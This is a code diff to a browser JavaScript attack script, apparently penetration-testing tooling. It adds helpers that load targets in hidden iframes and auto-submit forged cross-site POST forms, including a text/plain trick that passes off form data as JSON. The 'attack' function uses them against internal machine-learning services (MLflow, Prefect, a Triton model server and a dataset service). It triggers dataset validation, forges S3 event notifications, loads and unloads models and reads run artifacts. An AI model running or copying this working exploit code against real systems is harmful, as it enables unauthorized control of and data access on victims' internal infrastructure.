@@ -18,6 +18,15 @@ const sent = (address, body) => short(new Promise(done => {
     form.enctype = 'text/plain'; form.action = address; field.name = body.slice(0, -1) + ', "x": "'; field.value = '"}';
     form.append(field); document.body.append(frame, form); form.submit(); }));
 
+const framed = address => short(new Promise(done => {
+    const frame = document.createElement('iframe'); frame.src = address; document.body.append(frame);
+    frame.onload = () => { try { learned.push('framed ' + frame.contentDocument.title); } catch {} done(); }; }));
+const submitted = (address, fields) => short(new Promise(done => {
+    const frame = document.createElement('iframe'), form = document.createElement('form');
+    frame.name = 'f' + Math.random(); frame.onload = done; form.target = frame.name; form.method = 'POST'; form.action = address;
+    for (const [name, value] of Object.entries(fields)) form.append(Object.assign(document.createElement('input'), {name, value}));
+    document.body.append(frame, form); form.submit(); }));
+
 async function attack(at) {
     const json = JSON.stringify, every = [{}, {mode: 'no-cors'}, {mode: 'no-cors', credentials: 'include'}, {credentials: 'include'},
         {credentials: 'include', headers: {'Content-Type': 'application/json'}}];
@@ -32,6 +41,13 @@ async function attack(at) {
         await read(at.mlflow + '/api/2.0/mlflow/experiments/search?max_results=9', how);
         await read(at.prefect + '/api/deployments/name/train-model/gpu', how);
         await read(at.live + '/models', how);
+        await post(at.live + '/start/validate-dataset', new URLSearchParams({archive: at.mark + '.zip'}), how);
+        await read(at.live + '/start/validate-dataset?archive=' + at.mark + '.zip', how);
+        await post(at.live + '/uploads', json({name: at.mark + '.zip', size: 1}), how);
+        await post(at.live + '/s3-events', json(at.notification), how);
+        for (const path of ['/datasets/list', '/predictions/list', '/runs', '/registered-models', '/files/runs/' + at.deployment + '/x.json',
+            '/opened/9999999999-0/runs/' + at.deployment + '/report.html'])
+            await read(at.live + path, how);
         for (const asked of ['repository/models/predict/unload', 'repository/models/' + at.mark + '/load', 'repository/index',
             'systemsharedmemory/region/x/register', 'logging', 'trace/setting'])
             await post(at.triton + '/v2/' + asked, new Blob(['{}']), how);
@@ -52,6 +68,12 @@ async function attack(at) {
         await shown(store + '/media/' + at.mark);
     await shown(at.master + '/dir/status');
     await read(at.master + '/dir/status');
+    await submitted(at.live + '/start/validate-dataset', {archive: at.mark + '.zip'});
+    await sent(at.live + '/s3-events', json(at.notification));
+    for (const path of ['/predictions', '/live', '/start/validate-dataset?archive=' + at.mark + '.zip']) {
+        await framed(at.live + path);
+        await shown(at.live + path);
+    }
     await shown(at.mlflow + '/get-artifact?path=x&run_uuid=x');
     return learned;
 }
